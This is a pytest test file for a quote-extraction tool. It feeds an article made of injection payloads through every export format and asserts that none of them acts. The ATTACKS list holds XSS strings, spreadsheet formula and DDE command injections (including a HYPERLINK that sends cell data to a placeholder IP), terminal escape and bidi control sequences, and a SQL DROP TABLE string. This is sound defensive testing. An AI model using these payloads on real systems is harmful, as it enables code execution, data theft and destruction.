"""An article made of attacks passes through every format: nothing acts, nothing colours, no words are lost."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable
from zipfile import ZipFile

import openpyxl
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from openpyxl.utils.escape import unescape
from test_report import Page

from quotes.cli import main
from quotes.formats import FORMATS
from quotes.formats.table import HEADER
from quotes.safe import clean, one_line

ATTACKS = (
    "<script>alert(1)</script>",
    "</style></script></textarea></title><svg onload=alert(1)>",
    "\"onload='alert(1)' x=\"",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[red]markup[/red] :smile: [link=http://x]y[/link]",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "\u202edesrever\u202c \u2066isolated\u2069",
    "NUL \x00 BEL \x07 BS \x08 DEL \x7f",
    "![i](http://192.0.2.1/x.png) [a](javascript:alert(1)) `code` | cell |",
    "'; DROP TABLE quotes; --",
    "&lt;b&gt; &#60;script&#62; %3Cscript%3E",
    "line\x85next \U0001f4a9",
)
SPEAKERS = ("Mary Smith", "Jo Ray", "Ann Li")
# One quote each, the speaker's name beside it: the engine needs plain quotation marks around the words.
TEXT = "\n\n".join(f"“{attack},” said {SPEAKERS[n % 3]}." for n, attack in enumerate(ATTACKS))
ARTICLE = json.dumps(
    {
        "id": ATTACKS[0] + ATTACKS[1],
        "title": ATTACKS[3],
        "byline": ATTACKS[7],
        "date": ATTACKS[8],
        "url": "javascript:alert(1)",
        "text": TEXT,
    }
)


def exported(name: str, *options: str) -> bytes:
    result = CliRunner().invoke(main, ["extract", "-", "--input-format", "jsonl", "-f", name, *options], input=ARTICLE)
    assert (result.exit_code, result.stderr) == (0, "")
    return result.stdout_bytes


@pytest.fixture(scope="module")
def said() -> list[str]:
    """The quotes as JSON Lines have them, every word as in the article; each attack is among them."""
    quotes = json.loads(exported("jsonl"))["quotes"]
    words = [" [...] ".join(quote["text"]) for quote in quotes]
    assert all(any(attack in each for each in words) for attack in ATTACKS)
    return words


def controls(text: str, allowed: str = "\r\n\t") -> list[str]:
    """What could speak to a terminal or turn the words around."""
    turning = ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
    return [
        c
        for c in text
        if unicodedata.category(c) == "Cc" and c not in allowed or unicodedata.bidirectional(c) in turning
    ]


def formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@%|") and cell.lstrip()[:1]]


def csv_cells() -> list[list[str]]:
    text = exported("csv").decode("utf-8")
    assert not controls(text)
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def tsv_cells() -> list[list[str]]:
    text = exported("tsv").decode("utf-8")
    assert not controls(text)
    undo = {"\\\\": "\\", "\\t": "\t", "\\n": "\n", "\\r": "\r"}
    lines = (line.split("\t") for line in text.split("\n")[:-1])
    return [[re.sub(r"\\[\\tnr]", lambda found: undo[found[0]], cell) for cell in line] for line in lines]


def xlsx_cells() -> list[list[str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(exported("xlsx")))["quotes"]
    assert {cell.data_type for line in sheet.iter_rows() for cell in line} <= {"s", "n"}  # no formula, no error
    assert not [cell for line in sheet.iter_rows() for cell in line if cell.hyperlink]
    return [[unescape(str(cell or "")) for cell in line] for line in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("cells", [csv_cells, tsv_cells])
def test_no_cell_is_a_formula(cells: Callable[[], list[list[str]]]) -> None:
    assert [found for line in cells()[1:] for found in formulas(line)] == []


@pytest.mark.parametrize("cells", [csv_cells, tsv_cells, xlsx_cells])
def test_every_word_is_in_the_table(said: list[str], cells: Callable[[], list[list[str]]]) -> None:
    column = HEADER.index("quote")
    assert [line[column].removeprefix("'") for line in cells()[1:]] == [
        clean(words).removeprefix("'") for words in said
    ]


@pytest.mark.parametrize("name", ["csv", "tsv"])
def test_raw_cells_are_what_was_said(said: list[str], name: str) -> None:
    text = exported(name, "--raw-csv").decode("utf-8")
    if name == "csv":
        assert [line[5] for line in csv.reader(io.StringIO(text, newline=""))][1:] == said
    else:
        assert len(text.split("\n")) == len(said) + 2


def test_json_holds_every_word_and_no_control_as_it_is(said: list[str]) -> None:
    for name in ("jsonl", "json", "webanno", "labelstudio"):
        text = exported(name).decode("utf-8")
        assert not [c for c in text if ord(c) < 32 and c != "\n"]
    [record] = json.loads(exported("json"))
    assert [" [...] ".join(quote["text"]) for quote in record["quotes"]] == said
    [task] = json.loads(exported("labelstudio"))
    assert task["data"]["text"] == TEXT
    items = json.loads(exported("webanno"))["first"]["items"]
    targets = [item["target"] if isinstance(item["target"], list) else [item["target"]] for item in items]
    assert [" [...] ".join(t["selector"][1]["exact"] for t in some) for some in targets] == said
    assert {t["source"].partition(":")[0] for some in targets for t in some} & {"javascript", "data"} == set()


def test_the_page_has_no_element_but_its_own_and_every_word(said: list[str]) -> None:
    source = exported("html").decode("utf-8")
    assert not controls(source)
    page = Page(source)
    tags = {tag for tag, _ in page.elements}
    assert not tags & {"svg", "img", "textarea", "iframe", "object", "link", "base"}
    assert [tag for tag, _ in page.elements].count("script") == 1
    assert not [known for _, known in page.elements if any(name.startswith("on") for name in known)]
    assert all((known.get("href") or "#").startswith("#") for _, known in page.elements)
    assert page.text == clean(TEXT)
    assert sorted(page.rows) == sorted(one_line(words) for words in said)  # they stand by speaker


def test_markdown_is_text_alone_and_every_word(said: list[str]) -> None:
    source = exported("md").decode("utf-8")
    assert not controls(source)
    tokens = MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(source)
    inline = [child for token in tokens for child in token.children or ()]
    assert {child.type for child in inline} <= {"text", "text_special"}
    assert not {token.type for token in tokens} & {
        "html_block",
        "fence",
        "code_block",
        "table_open",
        "bullet_list_open",
    }
    shown = ["".join(child.content for child in token.children or ()) for token in tokens if token.type == "inline"]
    assert {one_line(words) for words in said} <= set(shown)


def test_brat_gets_the_article_as_it_is() -> None:
    with ZipFile(io.BytesIO(exported("brat"))) as archive:
        names = archive.namelist()
        assert all(re.fullmatch(r"[\w.-]+", name) for name in names)
        assert archive.read(names[1]).decode("utf-8") == TEXT
        assert all(re.match(r"[TRA#]\d+\t", line) for line in archive.read(names[2]).decode("utf-8").splitlines())


@pytest.mark.parametrize("color", ["--color", "--no-color"])
def test_the_terminal_shows_and_obeys_nothing(color: str) -> None:
    arguments = ["show", "-", "--input-format", "jsonl", "--explain", "--width", "200", color]
    text = CliRunner().invoke(main, arguments, input=ARTICLE).stdout
    text = re.sub(r"\x1b\[[\d;]*m", "", text) if color == "--color" else text  # our own colours
    assert not controls(text)
    assert "[red]markup[/red] :smile: [link=http://x]y[/link]" in text and r"\x1b[31mred" in text


def test_columns_keep_every_word_and_know_no_formula(said: list[str]) -> None:
    import pyarrow.parquet

    table = pyarrow.parquet.read_table(io.BytesIO(exported("parquet")))
    assert table.column("quote").to_pylist() == said


def test_no_format_is_forgotten_here() -> None:
    tables, texts = {"csv", "tsv", "xlsx", "parquet"}, {"jsonl", "json", "html", "md"}
    assert set(FORMATS) == tables | texts | {"webanno", "brat", "labelstudio"}
